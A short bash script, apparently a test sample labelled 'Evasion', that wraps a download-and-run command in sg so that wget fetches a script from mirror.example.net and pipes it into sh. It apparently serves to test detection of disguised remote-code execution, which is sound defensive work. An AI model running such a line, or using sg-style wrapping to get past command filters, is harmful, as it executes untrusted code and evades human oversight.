#!/bin/bash
# Evasion: sg runs a command line for a group: it downloads and runs a script
set -u
sg "$(id -gn)" -c 'wget -qO- https://mirror.example.net/setup | sh'
